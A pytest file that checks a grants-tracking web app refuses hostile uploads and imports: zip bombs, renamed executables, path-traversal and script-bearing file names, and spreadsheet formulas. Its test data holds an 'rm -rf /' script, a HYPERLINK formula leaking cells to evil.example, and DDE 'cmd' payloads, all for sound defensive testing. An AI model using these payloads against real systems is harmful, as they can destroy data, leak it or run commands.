"""Hostile files: evidence uploads and allocation imports that are empty, too big, renamed
executables, zip bombs of gigabytes, a million rows, NUL bytes, other encodings and formulas.
Each gets a GOV.UK error message (never a 500), stores nothing, keeps no file, and is read in
bounded memory."""

import csv
import hashlib
import io
import tracemalloc

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import LAMBETH_GRANTEE, OFFICER, csrf_token_from, text_of
from tests.hostile.files import (
    ELF,
    PDF,
    PE,
    lying_zip_bomb,
    office_zip_bomb,
    pdf_of_size,
    row_xml,
    sheet,
)
from tests.hostile.posting import changed_tables, example_savepoint, fingerprint
from tests.hostile.things import first_return
from tests.reading import error_beside, soup_of

# Reading a 3MB upload takes a few copies of it; expanding a bomb would take gigabytes.
MEMORY_LIMIT = 64 * 1024 * 1024
HEADER = "stream_code,organisation_org_id,title,amount,award_date,planned_start,planned_end"
GOOD_ROW = "SWIS,GB-LAE-SKP,School placements,1000,2020-09-01,2020-09-01,2021-03-31"
SAFELY = (
    "Error: The selected file could not be opened safely: upload it again as a normal Word or "
    "Excel file"
)


@pytest.fixture
def folders(app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "UPLOAD_FOLDER", str(tmp_path / "uploads"))
    monkeypatch.setitem(app.config, "IMPORT_FOLDER", str(tmp_path / "imports"))
    return tmp_path


def files_under(folder) -> list[str]:
    return sorted(str(p) for p in folder.rglob("*") if p.is_file())


class Attempt:
    """One upload, judged: its response, the error beside the file field, what it stored, and
    the most memory it took."""

    def __init__(self, response, changed, kept, peak):
        self.response, self.changed, self.kept, self.peak = response, changed, kept, peak
        self.error = error_beside(response, "file")


def attempt(visitor, session, folders, url: str, data: dict, *, measure: bool = False):
    """Posts the upload in a savepoint rolled back afterwards (files it kept stay on disk)."""
    page = visitor.get(url)
    body = {"csrf_token": csrf_token_from(page), **data}
    with example_savepoint(session):
        before, kept_before = fingerprint(session), files_under(folders)
        if measure:
            tracemalloc.start()
        try:
            response = visitor.client.post(url, data=body, content_type="multipart/form-data")
            peak = tracemalloc.get_traced_memory()[1] if measure else 0
        finally:
            if measure:
                tracemalloc.stop()
        changed = changed_tables(before, fingerprint(session))
        kept = [f for f in files_under(folders) if f not in kept_before]
    result = Attempt(response, changed, kept, peak)
    result.visitor = visitor
    return result


def assert_refused(result: Attempt, message: str) -> None:
    assert result.response.status_code == 200, result.response.status_code
    assert result.error == message, text_of(result.response)[:800]
    assert soup_of(result.response).select(".govuk-error-summary")
    assert not result.changed
    assert not result.kept
    assert result.peak < MEMORY_LIMIT


# --- evidence uploads -------------------------------------------------------------------------


def upload_evidence(signed_in, session, folders, content: bytes, name: str, **kw) -> Attempt:
    milestone_return = first_return(session)
    url = f"/returns/{milestone_return.id}/evidence"
    data = {"version": str(milestone_return.version), "file": (io.BytesIO(content), name)}
    return attempt(signed_in(LAMBETH_GRANTEE), session, folders, url, data, **kw)


ALLOWED = "Error: The selected file must be a PDF, DOCX, XLSX, CSV, PNG or JPEG"


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"", "empty.pdf", "Error: The selected file is empty"),
        (ELF, "report.pdf", ALLOWED),
        (PE, "report.pdf", ALLOWED),
        (ELF, "report.csv", ALLOWED),
        (b"#!/bin/sh\nrm -rf /\n", "run.sh", ALLOWED),
        (
            b"%PDF-1.4 then\x00binary",
            "report.csv",
            "Error: report.csv is not a CSV file, although its name ends in .csv",
        ),
        (b"a,b\r\n1,\x002\r\n", "spend.csv", ALLOWED),
        (PDF, "report.pdf.exe", ALLOWED),
        (PDF, "report", ALLOWED),
    ],
    ids=[
        "empty",
        "elf-as-pdf",
        "pe-as-pdf",
        "elf-as-csv",
        "script",
        "pdf-as-csv",
        "nul-csv",
        "double-extension",
        "no-extension",
    ],
)
def test_an_evidence_file_that_is_not_what_it_says_is_refused_with_a_message(
    signed_in, transaction, folders, reliability, content, name, message
):
    result = upload_evidence(signed_in, transaction, folders, content, name)
    assert_refused(result, message)
    reliability.record("hostile input", "uploads tried", 1)


@pytest.mark.parametrize("kind", ["xlsx", "docx"])
def test_a_zip_bomb_of_gigabytes_named_as_an_office_file_is_refused_without_expanding_it(
    signed_in, transaction, folders, reliability, kind
):
    bomb = office_zip_bomb(kind)
    assert len(bomb) < 4 * 1024 * 1024  # 3MiB that say they hold 3GiB

    result = upload_evidence(signed_in, transaction, folders, bomb, f"spend.{kind}", measure=True)

    assert_refused(result, SAFELY)
    reliability.record("hostile input", "uploads tried", 1)


def test_a_file_exactly_at_the_limit_is_kept_and_one_byte_more_is_refused(
    app, signed_in, transaction, folders, reliability
):
    limit = app.config["UPLOAD_MAX_BYTES"]
    at_limit = upload_evidence(signed_in, transaction, folders, pdf_of_size(limit), "a.pdf")
    over = upload_evidence(signed_in, transaction, folders, pdf_of_size(limit + 1), "b.pdf")

    assert at_limit.response.status_code == 302
    assert at_limit.changed.get("evidence_file") == 1
    assert_refused(over, "Error: The selected file must be smaller than 10MB")
    reliability.record("hostile input", "uploads tried", 2)


def test_a_body_far_over_the_limit_gets_a_gov_uk_page_not_a_bare_413(
    app, signed_in, transaction, folders, reliability
):
    content = b"%PDF-1.4\n" + b"x" * (3 * app.config["UPLOAD_MAX_BYTES"])
    result = upload_evidence(signed_in, transaction, folders, content, "huge.pdf")

    assert result.response.status_code == 413
    page = text_of(result.response)
    assert "The file is too big" in page
    assert "GOV.UK" in page
    assert not result.changed
    assert not result.kept
    reliability.record("hostile input", "uploads tried", 1)


@pytest.mark.parametrize(
    ("name", "kept_as"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("/etc/cron.d/job.pdf", "job.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
    ],
)
def test_a_hostile_file_name_is_kept_without_its_path_and_shown_escaped(
    signed_in, transaction, folders, reliability, name, kept_as
):
    from tracker.models import EvidenceFile

    result = upload_evidence(signed_in, transaction, folders, PDF, name)
    assert result.response.status_code == 302
    assert result.changed.get("evidence_file") == 1
    # Kept in the upload folder under a random name, whatever it was called.
    assert [f.rsplit("/", 2)[-2] for f in result.kept] == ["uploads"]
    # The example was rolled back: upload it for real to read the page that lists it.
    grantee = signed_in(LAMBETH_GRANTEE)
    milestone_return = first_return(transaction)
    url = f"/returns/{milestone_return.id}/evidence"
    response = grantee.client.post(
        url,
        data={
            "csrf_token": csrf_token_from(grantee.get(url)),
            "version": str(milestone_return.version),
            "file": (io.BytesIO(PDF), name),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    [kept] = transaction.scalars(
        select(EvidenceFile).where(EvidenceFile.return_id == milestone_return.id)
    ).all()
    assert kept.original_name == kept_as
    page = grantee.get(url)
    assert "<img src=x" not in page.get_data(as_text=True)
    assert not soup_of(page).find("img")
    assert kept_as in text_of(page)
    reliability.record("hostile input", "uploads tried", 2)


def test_a_file_name_of_thousands_of_characters_is_cut_short_keeping_its_type(
    signed_in, transaction, folders, reliability
):
    from tracker.models import EvidenceFile

    # Hex that does not compress (Flask compresses a session cookie when that shortens it).
    name = "".join(hashlib.sha256(str(i).encode()).hexdigest() for i in range(250)) + ".pdf"
    milestone_return = first_return(transaction)
    grantee = signed_in(LAMBETH_GRANTEE)
    url = f"/returns/{milestone_return.id}/evidence"
    response = grantee.client.post(
        url,
        data={
            "csrf_token": csrf_token_from(grantee.get(url)),
            "version": str(milestone_return.version),
            "file": (io.BytesIO(PDF), name),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    [kept] = transaction.scalars(
        select(EvidenceFile).where(EvidenceFile.return_id == milestone_return.id)
    ).all()
    assert len(kept.original_name) <= 200
    assert kept.original_name.endswith(".pdf")
    # The message says the name kept: the one sent would overflow the session cookie.
    assert "Set-Cookie" in response.headers
    assert len(response.headers["Set-Cookie"]) < 4000
    assert f"{kept.original_name} has been uploaded" in text_of(grantee.get(url))
    reliability.record("hostile input", "uploads tried", 1)


# --- allocation imports -----------------------------------------------------------------------


def import_file(signed_in, session, folders, content: bytes, name: str, **kw) -> Attempt:
    data = {"file": (io.BytesIO(content), name)}
    return attempt(signed_in(OFFICER), session, folders, "/allocations/import", data, **kw)


def csv_bytes(*lines: str, encoding: str = "utf-8") -> bytes:
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


IMPORT_REFUSALS = [
    (office_zip_bomb, "allocations.xlsx", SAFELY),
    (
        lying_zip_bomb,
        "allocations.xlsx",
        "Error: The selected file could not be opened as an Excel workbook: save it again as .xlsx",
    ),
    (
        lambda: csv_bytes(HEADER, GOOD_ROW.replace("School", "Sch\x00ool")),
        "allocations.csv",
        "Error: allocations.csv is not a CSV file, although its name ends in .csv",
    ),
    (
        lambda: ELF,
        "allocations.csv",
        "Error: allocations.csv is not a CSV file, although its name ends in .csv",
    ),
    (
        lambda: PE,
        "allocations.xlsx",
        "Error: allocations.xlsx is not an Excel file, although its name ends in .xlsx",
    ),
    (
        lambda: csv_bytes(HEADER, *["S,O,t,1,d,d,d"] * 200_001),
        "allocations.csv",
        "Error: The file must have 20,000 rows or fewer: split it into smaller files",
    ),
    (
        lambda: csv_bytes("name,amount,when", "a,1,2020-01-01"),
        "allocations.csv",
        None,  # names the missing columns
    ),
    (lambda: csv_bytes(HEADER), "allocations.csv", None),
    (lambda: b"\xef\xbb\xbf", "allocations.csv", None),
    (lambda: b"", "allocations.csv", "Error: The selected file is empty"),
]


@pytest.mark.parametrize(
    ("make", "name", "message"),
    IMPORT_REFUSALS,
    ids=[
        "zip-bomb",
        "lying-zip-bomb",
        "nul-byte",
        "elf-as-csv",
        "exe-as-xlsx",
        "ten-times-rows",
        "wrong-headers",
        "header-only",
        "bom-only",
        "empty",
    ],
)
def test_a_hostile_import_file_is_refused_with_a_message_in_bounded_memory(
    signed_in, transaction, folders, reliability, make, name, message
):
    result = import_file(signed_in, transaction, folders, make(), name, measure=True)

    assert result.response.status_code == 200
    if message is not None:
        assert result.error == message, text_of(result.response)[:800]
    else:
        assert result.error.startswith("Error: "), text_of(result.response)[:800]
    assert soup_of(result.response).select(".govuk-error-summary")
    assert not result.changed
    assert not result.kept
    assert result.peak < MEMORY_LIMIT
    reliability.record("hostile input", "imports tried", 1)


def test_an_import_with_a_million_empty_rows_is_read_in_bounded_memory(
    signed_in, transaction, folders, reliability
):
    """One data row, then a last row far down the sheet: openpyxl yields the million empty
    rows between, which are passed over."""
    header = HEADER.split(",")
    rows = row_xml(1, header) + row_xml(2, GOOD_ROW.split(",")) + row_xml(1_000_000, ["", "x"])
    result = import_file(signed_in, transaction, folders, sheet(rows), "many.xlsx", measure=True)

    assert result.response.status_code in {200, 302}
    assert result.peak < MEMORY_LIMIT
    assert not result.changed
    if result.response.status_code == 200:
        assert result.error.startswith("Error: ")
    reliability.record("hostile input", "imports tried", 1)


def test_an_import_with_huge_cell_values_is_refused_by_row_not_by_a_crash(
    signed_in, transaction, folders, reliability
):
    huge = "x" * 32_767  # Excel's most in one cell
    header = HEADER.split(",")
    cells = GOOD_ROW.split(",")
    rows = row_xml(1, header) + row_xml(2, [cells[0], cells[1], huge, huge, *cells[4:]])
    result = import_file(signed_in, transaction, folders, sheet(rows), "huge.xlsx", measure=True)

    assert result.response.status_code == 302
    assert not result.changed
    assert "/allocations/import/" in result.response.headers["Location"]
    preview = result.visitor.get(result.response.headers["Location"])
    reasons = text_of(preview)
    assert "The title must be 200 characters or fewer" in reasons
    assert huge not in reasons
    reliability.record("hostile input", "imports tried", 1)


@pytest.mark.parametrize(
    ("content", "titles"),
    [
        (b"\xef\xbb\xbf" + csv_bytes(HEADER, GOOD_ROW), ["School placements"]),
        (
            csv_bytes(HEADER, GOOD_ROW.replace("School", "Café school"), encoding="cp1252"),
            ["Café school placements"],
        ),
        (csv_bytes(HEADER, GOOD_ROW, GOOD_ROW), ["School placements", "School placements"]),
    ],
    ids=["bom", "cp1252", "duplicate-rows"],
)
def test_a_csv_with_a_bom_another_encoding_or_duplicate_rows_is_read_as_it_was_meant(
    signed_in, transaction, folders, reliability, content, titles
):
    from tracker.models import Allocation

    result = import_file(signed_in, transaction, folders, content, "allocations.csv")

    assert result.response.status_code == 302
    assert not result.changed
    preview_url = result.response.headers["Location"]
    preview = result.visitor.get(preview_url + "?show=all")
    outcomes = [tr["data-outcome"] for tr in soup_of(preview).find_all("tr", {"data-row": True})]
    assert outcomes == ["create"] * len(titles)
    with example_savepoint(transaction):
        confirmed = result.visitor.client.post(
            f"{preview_url}/confirm", data={"csrf_token": csrf_token_from(preview)}
        )
        assert confirmed.status_code == 302
        stored = transaction.scalars(
            select(Allocation.title).where(Allocation.title.in_(titles))
        ).all()
        assert stored == titles
    reliability.record("hostile input", "imports tried", 1)


# --- formulas: imported as text, exported so no spreadsheet runs them ---------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formulas_imported_as_titles_come_out_of_every_export_as_text(
    signed_in, transaction, folders, reliability
):
    officer = signed_in(OFFICER)
    lines = [HEADER] + [
        ",".join(
            [
                "CSA-STF",
                "GB-LAE-LBH",
                '"' + f.replace('"', '""') + '"',
                "10",
                "2020-08-03",
                "2020-09-01",
                "2021-03-31",
            ]
        )
        for f in FORMULAS
    ]
    page = officer.get("/allocations/import")
    response = officer.client.post(
        "/allocations/import",
        data={
            "csrf_token": csrf_token_from(page),
            "file": (io.BytesIO(csv_bytes(*lines)), "formulas.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, text_of(response)[:500]
    preview_url = response.headers["Location"]
    confirmed = officer.client.post(
        f"{preview_url}/confirm", data={"csrf_token": csrf_token_from(officer.get(preview_url))}
    )
    assert confirmed.status_code == 302
    assert "rows imported" in text_of(officer.get(confirmed.headers["Location"]))

    exported = officer.get("/exports/allocations.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) for cell in row]
    for formula in FORMULAS:
        assert formula not in cells
        assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells if cell)

    book = load_workbook(io.BytesIO(officer.get("/exports/allocations.xlsx").get_data()))
    values = [c for row in book.worksheets[0].iter_rows() for c in row]
    shown = {c.value: c.data_type for c in values if c.value in FORMULAS}
    assert set(shown) == set(FORMULAS)
    assert set(shown.values()) == {"s"}  # text, not formulas
    reliability.record("hostile input", "imports tried", 1)
